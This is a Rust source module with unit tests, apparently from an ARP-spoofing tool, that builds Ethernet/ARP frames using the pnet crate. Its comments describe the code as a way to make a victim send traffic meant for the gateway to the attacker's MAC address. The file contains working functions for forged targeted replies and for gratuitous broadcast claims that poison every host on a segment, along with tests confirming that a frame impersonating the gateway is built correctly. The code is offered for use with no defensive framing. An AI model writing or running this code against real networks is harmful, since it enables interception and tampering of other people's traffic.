//! ARP frame construction.
//!
//! Requests drive discovery of hardware addresses; forged replies are the
//! address-resolution interference technique: the victim learns that the
//! claimed address lives at our MAC, and traffic for that address comes
//! to us instead of where it should go.

use std::net::Ipv4Addr;

use pnet::packet::arp::{ArpHardwareTypes, ArpOperation, ArpOperations, MutableArpPacket};
use pnet::packet::ethernet::{EtherTypes, MutableEthernetPacket};
use pnet::util::MacAddr;

use crate::{ARP_LEN, ETH_HDR_LEN, PacketError};

/// Broadcast who-has request for `target_ip`, used to resolve the
/// gateway's hardware address before spoofing can start.
pub fn request(src_mac: MacAddr, src_ip: Ipv4Addr, target_ip: Ipv4Addr) -> Vec<u8> {
    build_frame(
        ArpOperations::Request,
        src_mac,
        src_ip,
        MacAddr::broadcast(),
        MacAddr::zero(),
        target_ip,
    )
    .expect("fixed-size ARP buffer")
}

/// Forged reply telling `victim` that `claimed_ip` is at `our_mac`.
pub fn spoof_reply(
    our_mac: MacAddr,
    claimed_ip: Ipv4Addr,
    victim_mac: MacAddr,
    victim_ip: Ipv4Addr,
) -> Vec<u8> {
    build_frame(
        ArpOperations::Reply,
        our_mac,
        claimed_ip,
        victim_mac,
        victim_mac,
        victim_ip,
    )
    .expect("fixed-size ARP buffer")
}

/// Gratuitous broadcast reply claiming `claimed_ip` for `our_mac`, so
/// every host on the segment updates its table at once.
pub fn gratuitous_claim(our_mac: MacAddr, claimed_ip: Ipv4Addr) -> Vec<u8> {
    build_frame(
        ArpOperations::Reply,
        our_mac,
        claimed_ip,
        MacAddr::broadcast(),
        MacAddr::broadcast(),
        claimed_ip,
    )
    .expect("fixed-size ARP buffer")
}

fn build_frame(
    op: ArpOperation,
    sender_mac: MacAddr,
    sender_ip: Ipv4Addr,
    frame_dst: MacAddr,
    target_mac: MacAddr,
    target_ip: Ipv4Addr,
) -> Result<Vec<u8>, PacketError> {
    let mut buffer = vec![0u8; ETH_HDR_LEN + ARP_LEN];

    {
        let mut eth = MutableEthernetPacket::new(&mut buffer[..ETH_HDR_LEN])
            .ok_or(PacketError::Buffer("ethernet"))?;
        eth.set_destination(frame_dst);
        eth.set_source(sender_mac);
        eth.set_ethertype(EtherTypes::Arp);
    }

    let mut arp = MutableArpPacket::new(&mut buffer[ETH_HDR_LEN..ETH_HDR_LEN + ARP_LEN])
        .ok_or(PacketError::Buffer("arp"))?;
    arp.set_hardware_type(ArpHardwareTypes::Ethernet);
    arp.set_protocol_type(EtherTypes::Ipv4);
    arp.set_hw_addr_len(6);
    arp.set_proto_addr_len(4);
    arp.set_operation(op);
    arp.set_sender_hw_addr(sender_mac);
    arp.set_sender_proto_addr(sender_ip);
    arp.set_target_hw_addr(target_mac);
    arp.set_target_proto_addr(target_ip);

    Ok(buffer)
}

// ╔════════════════════════════════════════════╗
// ║ ████████╗███████╗███████╗████████╗███████╗ ║
// ║ ╚══██╔══╝██╔════╝██╔════╝╚══██╔══╝██╔════╝ ║
// ║    ██║   █████╗  ███████╗   ██║   ███████╗ ║
// ║    ██║   ██╔══╝  ╚════██║   ██║   ╚════██║ ║
// ║    ██║   ███████╗███████║   ██║   ███████║ ║
// ║    ╚═╝   ╚══════╝╚══════╝   ╚═╝   ╚══════╝ ║
// ╚════════════════════════════════════════════╝

#[cfg(test)]
mod tests {
    use super::*;
    use pnet::packet::arp::ArpPacket;
    use pnet::packet::ethernet::EthernetPacket;

    const OUR_MAC: MacAddr = MacAddr(0xaa, 0xbb, 0xcc, 0x00, 0x00, 0x01);
    const VICTIM_MAC: MacAddr = MacAddr(0x11, 0x22, 0x33, 0x44, 0x55, 0x66);

    #[test]
    fn spoof_reply_claims_the_gateway_toward_the_victim() {
        let gateway = Ipv4Addr::new(192, 168, 1, 1);
        let victim = Ipv4Addr::new(192, 168, 1, 50);

        let frame = spoof_reply(OUR_MAC, gateway, VICTIM_MAC, victim);

        let eth = EthernetPacket::new(&frame).unwrap();
        assert_eq!(eth.get_destination(), VICTIM_MAC);
        assert_eq!(eth.get_ethertype(), EtherTypes::Arp);

        let arp = ArpPacket::new(&frame[ETH_HDR_LEN..]).unwrap();
        assert_eq!(arp.get_operation(), ArpOperations::Reply);
        assert_eq!(arp.get_sender_hw_addr(), OUR_MAC);
        assert_eq!(arp.get_sender_proto_addr(), gateway);
        assert_eq!(arp.get_target_hw_addr(), VICTIM_MAC);
        assert_eq!(arp.get_target_proto_addr(), victim);
    }

    #[test]
    fn request_broadcasts_with_zeroed_target_hw() {
        let frame = request(
            OUR_MAC,
            Ipv4Addr::new(192, 168, 1, 2),
            Ipv4Addr::new(192, 168, 1, 1),
        );

        let eth = EthernetPacket::new(&frame).unwrap();
        assert_eq!(eth.get_destination(), MacAddr::broadcast());

        let arp = ArpPacket::new(&frame[ETH_HDR_LEN..]).unwrap();
        assert_eq!(arp.get_operation(), ArpOperations::Request);
        assert_eq!(arp.get_target_hw_addr(), MacAddr::zero());
    }

    #[test]
    fn gratuitous_claim_targets_its_own_address() {
        let claimed = Ipv4Addr::new(192, 168, 1, 77);
        let frame = gratuitous_claim(OUR_MAC, claimed);

        let arp = ArpPacket::new(&frame[ETH_HDR_LEN..]).unwrap();
        assert_eq!(arp.get_sender_proto_addr(), claimed);
        assert_eq!(arp.get_target_proto_addr(), claimed);
    }
}
